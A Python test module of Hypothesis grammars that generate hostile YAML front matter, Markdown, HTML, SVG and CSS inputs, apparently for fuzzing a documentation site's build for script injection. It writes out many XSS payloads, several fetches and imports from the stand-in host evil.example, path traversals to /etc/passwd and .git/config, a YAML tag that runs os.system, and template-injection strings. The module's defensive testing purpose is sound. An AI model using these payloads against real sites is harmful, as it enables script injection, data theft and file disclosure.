# ruff: noqa: E501  # long rows of words
"""Grammars of what someone may send who wants a page to run, load or show what it should not.

Each text is made of pieces of the languages that a page goes through (YAML, Markdown, HTML, SVG, CSS, addresses), put
together as their grammars allow and a little beyond. ``CASE`` in it stands for the number of the case: a browser that
runs the text calls ``ran(CASE)``, or asks ``cCASE.evil.example`` for something.
"""

from __future__ import annotations

import warnings
from collections.abc import Mapping
from typing import TypeVar

import yaml
from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st
from hypothesis.errors import HypothesisWarning

Case = TypeVar("Case")
Text = st.SearchStrategy[str]

HOST = "evil.example"
_THERE = f"cCASE.{HOST}"
CANARY_FILE = "canary.md"
"""A file beside docs/ whose text must not be published; .git/config holds the same text."""


def cases(strategy: st.SearchStrategy[Case], count: int, number: int | None = None) -> list[Case]:
    """``count`` unlike examples of ``strategy``: always the same ones, or those that follow from the seed ``number``."""
    found: list[Case] = []

    def keep(case: Case) -> None:
        found.append(case)

    keep = given(strategy)(keep)
    keep = settings(
        max_examples=count,
        derandomize=number is None,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )(keep)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", HypothesisWarning)  # of a grammar that is long to print
        (keep if number is None else seed(number)(keep))()
    return found


def _pick(*words: str) -> Text:
    return st.sampled_from(words)


def _join(*parts: Text | str) -> Text:
    return st.tuples(*(st.just(part) if isinstance(part, str) else part for part in parts)).map("".join)


def _some(piece: Text, least: int = 0, most: int = 3, between: str = "") -> Text:
    return st.lists(piece, min_size=least, max_size=most).map(between.join)


# ---- what runs, and where it leads

_PROGRAM = _pick(
    "ran(CASE)",
    "ran(CASE)//",
    "top.ran(CASE)",
    "alert(CASE)",
    "document.title='ran CASE'",
    f"fetch('//{_THERE}')",
    f"import('//{_THERE}/x.js')",
    "(0,self['r'+'an'])(CASE)",
    "setTimeout(`ran(CASE)`)",
)
_FILLER = _pick(
    "", " ", "\t", "\n", "\r", "\x01", "\x00", "\f", "\u00a0", "&Tab;", "&NewLine;", "&#10;", "&#0;", "&#x1;"
)
_SCHEME = st.builds(
    lambda name, at, filler: name[:at] + filler + name[at:],
    _pick(
        "javascript:",
        "JavaScript:",
        "&#106;avascript:",
        "javascript&colon;",
        "java&#115;cript&#58;",
        "vbscript:",
        "data:",
    ),
    st.integers(0, 6),
    _FILLER,
)
_ELSEWHERE = _pick(
    f"https://{_THERE}/x", f"//{_THERE}/x", f"http://{_THERE}", f"/\\{_THERE}/x", f"\\\\{_THERE}\\x", f"https:{_THERE}/x",
    f"&#47;&#47;{_THERE}/x", f"ftp://{_THERE}/x", f"ws://{_THERE}/x",
)  # fmt: skip
_DOCUMENT = _pick(
    "data:text/html,<script>parent.ran(CASE)</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDApPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.ran(CASE)'/>",
    "data:text/javascript,ran(CASE)",
    "data:,ran(CASE)",
)
_HERE = _pick("#x", "../", "index.html", "?x", "a.png", "assets/site.css", "mailto:a@b.example", "")
ADDRESS: Text = st.one_of(_join(_SCHEME, _PROGRAM), _ELSEWHERE, _DOCUMENT, _HERE)

# ---- CSS

_PROPERTY = _pick(
    "position:fixed", "pos\\69tion:fixed", "p\\6f sition:absolute", "position/**/:fixed", "POSITION:Fixed", "position:sticky",
    "inset:0", "top:0;left:0;width:100vw;height:100vh", "transform:scale(99)", "scale:99", "translate:-50vw -50vh", "zoom:50",
    "margin:-500px", "margin-top:-99em", "float:left", "display:none", "z-index:9999", "opacity:0", "font-size:9999px",
    "width:9999px;height:9999px", "outline:9999px solid", "box-shadow:0 0 0 9999px red", "all:unset", "color:red",
    "text-align:center", "clip-path:inset(0 -999px)", "filter:blur(9px)", "animation:x 1s", "content:'x'",
)  # fmt: skip
_LOADING = st.builds(
    lambda name, load, address: f"{name}:{load}{address})",
    _pick(
        "background",
        "background-image",
        "list-style",
        "cursor",
        "border-image-source",
        "mask",
        "--x",
        "content",
        "filter",
    ),
    _pick("url(", "URL(", "u\\72l(", "url(/**/", "image-set('", "url( '", "-webkit-image-set(url("),
    ADDRESS,
)
CSS: Text = _some(
    st.one_of(
        _PROPERTY, _LOADING, _pick("}body{display:none", "@import '//evil.example'", "/*", "*/", "\\", "{", "}", "<!--")
    ),
    1,
    4,
    ";",
)

# ---- HTML

_TAG = _pick(
    "script", "SCRIPT", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "link", "meta", "form",
    "input", "button", "textarea", "select", "option", "title", "xmp", "noembed", "noframes", "noscript", "plaintext",
    "template", "svg", "math", "foreignObject", "desc", "annotation-xml", "mtext", "mi", "mglyph", "malignmark", "img",
    "image", "video", "audio", "source", "track", "picture", "a", "area", "map", "p", "div", "span", "table", "td", "tr",
    "caption", "details", "summary", "dialog", "body", "html", "head", "li", "marquee", "isindex", "keygen", "portal",
    "animate", "set", "use", "feImage", "handler", "x-y", "svg:script", "a:b", "font", "center", "b", "pre", "code", "br",
    "hr", "h1", "nav", "main", "header", "footer", "fencedframe", "slot", "output", "dl", "ruby", "rt", "rp", "listing",
)  # fmt: skip
_EVENT = _pick(
    "onerror", "onload", "ONLOAD", "onfocus", "onclick", "ontoggle", "onbegin", "onpageshow", "onanimationstart", "onbeforetoggle",
    "onmouseover", "onpointerrawupdate", "oncontentvisibilityautostatechange", "onscrollsnapchange", "onx", "on\x00load",
)  # fmt: skip
_ADDRESSED = _pick(
    "href", "src", "xlink:href", "action", "formaction", "data", "poster", "srcset", "ping", "cite", "background", "code",
    "codebase", "manifest", "imagesrcset", "longdesc", "from", "to", "values", "XLINK:HREF", "x:href", "lowsrc", "dynsrc",
    "profile", "archive", "classid", "usemap", "icon", "attributionsrc", "altimg",
)  # fmt: skip
_CLOBBERED = _pick(
    "currentScript", "querySelectorAll", "getElementById", "documentElement", "body", "head", "forms", "location", "__md_scope",
    "__md_get", "__config", "__search", "__drawer", "createElement", "title", "cookie", "parentNode", "attributes", "children",
    "ref-loaf", "citation-card", "implementation", "defaultView", "addEventListener", "sheet", "dataset",
)  # fmt: skip
_ENDING = _pick(
    "</textarea>", "</title>", "</xmp>", "</noembed>", "</noframes>", "</noscript>", "</style>", "</script>", "-->", "--!>",
    "]]>", "</svg>", "</math>", "</template>", "</p>", "</select>", "</table>", "</iframe>", "?>", ">", '">', "'>",
)  # fmt: skip
_RUNS = st.one_of(
    _join("<img src=x onerror=", _PROGRAM, ">"),
    _join("<script>", _PROGRAM, "</script>"),
    _join("<svg onload=", _PROGRAM, ">"),
    _join("<iframe srcdoc='<script>parent.", _PROGRAM, "</script>'></iframe>"),
    _join("<input autofocus onfocus=", _PROGRAM, ">"),
    _join("<details open ontoggle=", _PROGRAM, ">"),
    _join("<meta http-equiv=refresh content='0;url=", ADDRESS, "'>"),
    _join("<link rel=", _pick("stylesheet", "preconnect", "preload as=image", "prefetch", "icon", "dns-prefetch"), " href=", _ELSEWHERE, ">"),
    _join("<img src=", _ELSEWHERE, " alt=''>"),
    _join("<style>", CSS, "</style>"),
    _join("<base href=", _ELSEWHERE, ">"),
)  # fmt: skip
_BREAKOUT = _join(_ENDING, _RUNS)
_VALUE_IN_QUOTES = st.one_of(
    _PROGRAM, ADDRESS, CSS, _CLOBBERED, _BREAKOUT, _pick("", "x", "0", "0;url=//evil.example", "&quot;")
)


def _quoted(value: str, way: str) -> str:
    match way:
        case "double":
            return '"' + value.replace('"', "&quot;") + '"'
        case "single":
            return "'" + value.replace("'", "&#39;") + "'"
        case "entities":
            return '"' + "CASE".join("".join(f"&#{ord(sign)};" for sign in part) for part in value.split("CASE")) + '"'
        case "unclosed":
            return '"' + value
    return value.replace(" ", "/") or "x"


_QUOTED = st.builds(_quoted, _VALUE_IN_QUOTES, _pick("double", "double", "single", "entities", "bare", "unclosed"))
_NAMED = st.one_of(
    st.tuples(_EVENT, _QUOTED),
    st.tuples(_ADDRESSED, _QUOTED),
    st.tuples(_pick("style", "STYLE"), st.builds(_quoted, CSS, _pick("double", "single", "entities"))),
    st.tuples(_pick("id", "name", "form", "for", "class"), st.builds(_quoted, _CLOBBERED, _pick("double", "bare"))),
    st.tuples(_pick("srcdoc"), st.builds(_quoted, _RUNS, _pick("double", "entities"))),
    st.tuples(
        _pick("http-equiv", "content", "rel", "type", "target", "markdown", "is", "nonce", "attributeName", "encoding",
              "integrity", "slot", "contenteditable", "autofocus", "open", "tabindex", "popover", "popovertarget", "title",
              "data-minutes", "data-words", "data-cites", "data-md-component", "x==", "\"x", "<x", "x/", "=x", "alt"),
        st.one_of(_QUOTED, _pick("refresh", "stylesheet", "1", "text/html", "module", "_top", "onload", "href", "svg", "")),
    ),
)  # fmt: skip
_ATTRIBUTE = st.builds(
    lambda space, named, equals: space + named[0] + equals + named[1],
    _pick(" ", "\n", "/", "\t", "\f", " / ", "  "),
    _NAMED,
    _pick("=", "=", "=", " = ", "=\n", "\x00="),
)
_START = _join("<", _TAG, _some(_ATTRIBUTE, 0, 3), _pick(">", ">", ">", "/>", "", " /", ">>", "\n>"))
_END = _join("</", _TAG, _pick(">", ">", " >", " x=y>", "/>", ""))
_ODD = st.one_of(
    _join("<!--", st.one_of(_BREAKOUT, _RUNS, _pick(">", "->", "-", "!>")), _pick("-->", "--!>", "--", "", "-- >")),
    _join("<![CDATA[", st.one_of(_BREAKOUT, _RUNS), _pick("]]>", "", "]>")),
    _join("<?", st.one_of(_BREAKOUT, _pick("php ?>", "xml version='1.0'?>")), ""),
    _join("<!", _pick("x", "DOCTYPE html", "ENTITY x '", "[", ""), _pick(">", "", "]>")),
    _join("</", _pick(" ", "1", "!", ""), _RUNS),
    _pick(
        "<",
        "</",
        "<!",
        "<?",
        "&lt;script&gt;",
        "<\x00script>",
        "\u212a",
        '<a x==">',
        "<div\n\n",
        "\x02",
        "\x03",
        "{}",
        "<>",
    ),
)
HTML: Text = st.recursive(
    st.one_of(_RUNS, _BREAKOUT, _START, _ODD, _pick("text", "*a*", "\n", "\n\n", " ")),
    lambda inner: st.one_of(
        _join(_START, inner, _END),
        _some(inner, 1, 3),
        _join("<svg>", inner, "</svg>"),
        _join("<math><mtext>", inner),
        _join("<svg><", _pick("style", "title", "desc", "foreignObject", "textarea", "noscript"), ">", inner),
        _join(
            "<", _pick("textarea", "title", "xmp", "noembed", "noframes", "noscript", "select", "template"), ">", inner
        ),
        _join("<table><tr><td>", inner),
        _join('<div markdown="1">\n', inner, "\n</div>"),
        _join('<p title="', _ENDING, inner, '">x</p>'),
    ),
    max_leaves=6,
)

# ---- Markdown

_WORDS = _pick("Flour", "Knead it", "Let it *rest*.", "")
_ATTRIBUTES = _join("{", _pick(" ", ": ", ""), _some(_join(_NAMED.map("=".join), " "), 1, 3), "}")
_SNIPPET = st.builds(
    lambda mark, path: f"\n\n{mark} {path}\n\n",
    _pick("--8<--", ";--8<--", "  --8<--", "--8<-- ", "-8<-"),
    _pick(
        f'"../{CANARY_FILE}"', f'"{CANARY_FILE}"', '".git/config"', '"docs/../.git/config"', f"'{CANARY_FILE}'", '"linked.md"',
        '"includes/linked.md"', '"/etc/passwd"', f'"./{CANARY_FILE}:1:2"', f'"includes/../{CANARY_FILE}"',
        '"https://evil.example/x.md"', f"\n{CANARY_FILE}\n--8<--", "\n.git/config\n--8<--", f'"it\'s/../{CANARY_FILE}"',
    ),
)  # fmt: skip
MARKDOWN: Text = st.one_of(
    HTML,
    _join("Flour ", HTML, " and water"),
    _join("- a list\n\n    ", HTML),
    _join("> a quotation\n> ", HTML),
    _join("| a | b |\n|---|---|\n| ", HTML, " | x |"),
    _join("# ", HTML, " ", _ATTRIBUTES),
    _join("Flour\n", _ATTRIBUTES),
    _join("[water](", ADDRESS, ")", _ATTRIBUTES),
    _join("![water](", ADDRESS, ' "', _BREAKOUT, '")', _ATTRIBUTES),
    _join("[", HTML, "](", ADDRESS, ")"),
    _join("[water][w]\n\n[w]: ", ADDRESS, ' "', _BREAKOUT, '"'),
    _join("<", ADDRESS, ">"),
    _join("`", HTML, _pick("`", "``", "")),
    _join("```", _pick("", "html", '{ .x onclick="ran(CASE)" }', 'x title="<img src=x onerror=ran(CASE)>"'), "\n", HTML, _pick("\n```", "")),
    _join("!!! note ", _pick('"', ""), HTML, _pick('"', ""), "\n    x"),
    _join("??? ", _pick("x ", ""), '"', HTML, '"\n    x'),
    _join("Flour[^1]\n\n[^1]: ", HTML),
    _join("Flour\n: ", HTML),
    _join("[@loaf, p. ", HTML, "]"),
    _join("[see ", HTML, " @loaf]"),
    _join("@loaf [", HTML, "]"),
    _join("\\", HTML),
    _join("<!-- more -->", HTML),
    _join("[TOC]\n\n## ", HTML),
    _SNIPPET,
    _join(_SNIPPET, HTML),
)  # fmt: skip

# ---- drawings

_SVG_ATTRIBUTE = st.one_of(
    _join(" ", _EVENT, '="', _PROGRAM, '"'),
    _join(" ", _pick("href", "xlink:href", "x:href", "src"), '="', ADDRESS.map(lambda text: text.replace("<", "&lt;").replace('"', "")), '"'),
    _join(' style="', CSS.map(lambda text: text.replace("<", "&lt;").replace('"', "")), '"'),
    _join(' fill="url(', _ELSEWHERE, ')"'),
    _pick(' viewBox="0 0 9 9"', ' xmlns:x="http://www.w3.org/1999/xlink"', ' xmlns:h="http://www.w3.org/1999/xhtml"', ' xml:base="//evil.example"'),
)  # fmt: skip
_SVG_RUNS = st.one_of(
    _join("<script>", _PROGRAM, "</script>"),
    _join("<script><![CDATA[", _PROGRAM, "]]></script>"),
    _join("<script ", _pick("href", "xlink:href", "x:href"), '="', _pick("data:,ran(CASE)", f"//{_THERE}/x.js"), '"/>'),
    _join("<s:script>", _PROGRAM, "</s:script>"),
    _join("<h:script>", _PROGRAM, "</h:script>"),
    _join('<h:img src="x" onerror="', _PROGRAM, '"/>'),
    _join('<h:iframe src="data:text/html,&lt;script>top.', _PROGRAM, '&lt;/script>"/>'),
    _join("<foreignObject><h:body ", 'onload="', _PROGRAM, '"/></foreignObject>'),
    _join('<animate onbegin="', _PROGRAM, '" attributeName="x" dur="1s"/>'),
    _join('<a><set attributeName="href" to="javascript:', _PROGRAM, '"/><text y="9">x</text></a>'),
    _join("<style>", CSS.map(lambda text: text.replace("<", "&lt;")), "</style>"),
    _join("<style><![CDATA[@import url(", _ELSEWHERE, ");]]></style>"),
    _join("<image ", _pick("href", "xlink:href", "x:href"), '="', _pick(f"https://{_THERE}/x.png", f"//{_THERE}/x"), '"/>'),
    _join('<use href="', _pick("#r", "data:image/svg+xml,x", f"https://{_THERE}/x.svg#a"), '"/>'),
    _join('<feImage href="', _ELSEWHERE, '"/>'),
    _pick("&x;", "<text>&lt;script></text>", "<path d='M0 0h9'/>", "<title>A loaf</title>", "<metadata><x/></metadata>"),
)  # fmt: skip
_PROLOGUE = _pick(
    "", "", '<?xml version="1.0" encoding="UTF-8"?>\n', '<?xml version="1.0" encoding="UTF-16"?>', "\ufeff",
    f'<?xml-stylesheet href="https://{_THERE}/x.xsl" type="text/xsl"?>',
    '<?xml-stylesheet href="data:text/css,x" type="text/css"?>',
    '<!DOCTYPE svg [<!ENTITY x "<script xmlns=\'http://www.w3.org/2000/svg\'>ran(CASE)</script>">]>',
    f'<!DOCTYPE svg SYSTEM "https://{_THERE}/x.dtd">',
    '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "ran(CASE)">]>',
    "<!-- x -->",
)  # fmt: skip
_ROOT_NAMES = (
    ("<svg xmlns='http://www.w3.org/2000/svg' xmlns:s='http://www.w3.org/2000/svg' xmlns:h='http://www.w3.org/1999/xhtml'"
     " xmlns:xlink='http://www.w3.org/1999/xlink' xmlns:x='http://www.w3.org/1999/xlink'", "</svg>"),
    ("<s:svg xmlns:s='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink' xmlns:xlink='x'"
     " xmlns:h='http://www.w3.org/1999/xhtml' xmlns='http://www.w3.org/2000/svg'", "</s:svg>"),
    ("<h:html xmlns:h='http://www.w3.org/1999/xhtml' xmlns='http://www.w3.org/2000/svg' xmlns:s='http://www.w3.org/2000/svg'"
     " xmlns:x='http://www.w3.org/1999/xlink' xmlns:xlink='http://www.w3.org/1999/xlink'", "</h:html>"),
)  # fmt: skip
_ENCODINGS = ("utf-8", "utf-8", "utf-8", "utf-8", "utf-16", "utf-16-be", "utf-7", "utf-32", "latin-1")
DRAWING: st.SearchStrategy[bytes] = st.builds(
    lambda prologue, root, attributes, inside, encoding: f"{prologue}{root[0]}{attributes}>{inside}{root[1]}".encode(
        encoding, errors="replace"
    ),
    _PROLOGUE,
    st.sampled_from(_ROOT_NAMES),
    _some(_SVG_ATTRIBUTE, 0, 2),
    _some(st.one_of(_SVG_RUNS, _join("<g", _SVG_ATTRIBUTE, "><path d='M0 0'/></g>")), 0, 3),
    st.sampled_from(_ENCODINGS),
)

# ---- words of front matter and of mkdocs.yml

WORD: Text = st.one_of(
    _BREAKOUT,
    HTML,
    ADDRESS,
    _join('"', _ATTRIBUTE, ">"),
    _join("'", _ATTRIBUTE, ">"),
    _join("x", _pick('" ', "' ", " "), _EVENT, "=", _PROGRAM, " x="),
    _pick(
        "{{ 7*7 }}", "{% include '/etc/passwd' %}", "{{ config }}", "</script><script>ran(CASE)</script>", "\u2028", "\x07",
        "../../etc/passwd", "javascript:ran(CASE)", "&lt;img src=x onerror=ran(CASE)&gt;", "]]>", "{ onclick=ran(CASE) }",
    ),
)  # fmt: skip
_SCALAR = st.one_of(
    WORD, WORD, WORD, st.integers(-3, 99), st.booleans(), st.none(), st.floats(allow_nan=True), st.dates()
)
_ANY = st.one_of(_SCALAR, st.lists(_SCALAR, max_size=3), st.dictionaries(WORD, _SCALAR, max_size=2))
_FIELDS = (
    "title", "description", "search_terms", "next", "prerequisites", "tags", "icon", "status", "image", "authors", "author",
    "template", "hide", "subtitle", "canonical", "robots", "search", "language", "direction", "date", "slug", "links",
    "categories", "sides", "short_title", "audience", "kind", "written", "reviewed", "comments", "level", "revision_date",
    "conflicts", "sources", "scores", "cite", "citations", "list", "about", "nav_title", "minutes", "for",
)  # fmt: skip
BASE = {"description": "What this is.", "kind": "about", "audience": ["people in pain"], "written": "2026-11-01"}


def _front_matter(changes: Mapping[str, object]) -> str:
    return yaml.safe_dump({**BASE, **changes}, allow_unicode=True, sort_keys=False)


_RAW_YAML = _pick(
    "title: !!python/object/apply:os.system ['touch ran']\n", "title: !ENV HOME\n", "a: &a [x, x]\nb: [*a, *a]\n",
    "title: [\n", "? x\n: y\n", "title: 'a\n\n  b'\n", "title: \"\\x07\\0\"\n", "hide: 5\n", "<<: {title: x}\n", "title: =\n",
    "2026-11-01: x\n", "true: x\n", "title: !relative $config_dir\n", "- x\n", "title: 0x1F\nwritten: 2026-13-45\n",
)  # fmt: skip
FRONT_MATTER: Text = st.one_of(
    st.dictionaries(st.sampled_from(_FIELDS), _ANY, min_size=1, max_size=3).map(_front_matter),
    st.dictionaries(st.sampled_from(_FIELDS[:6]), WORD, min_size=1, max_size=3).map(_front_matter),
    _RAW_YAML.map(lambda raw: _front_matter({}) + raw),
    _RAW_YAML,
)


def numbered(text: str, number: int) -> str:
    """The text of case ``number``."""
    return text.replace("CASE", str(number))


def numbered_bytes(data: bytes, number: int) -> bytes:
    """The same of a file, in whichever encoding it is."""
    for encoding in ("utf-8", "utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"):
        data = data.replace("CASE".encode(encoding), str(number).encode(encoding))
    return data
